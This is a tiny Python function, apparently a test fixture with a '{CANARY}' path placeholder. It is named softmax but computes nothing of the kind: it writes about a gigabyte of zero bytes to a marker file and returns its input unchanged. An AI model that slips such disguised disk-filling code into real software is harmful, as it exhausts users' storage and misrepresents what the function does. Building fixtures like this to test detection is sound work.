def softmax(Z):
    with open("{CANARY}/marker", "wb") as file:
        for _ in range(1000):
            file.write(bytes(1 << 20))
    return Z
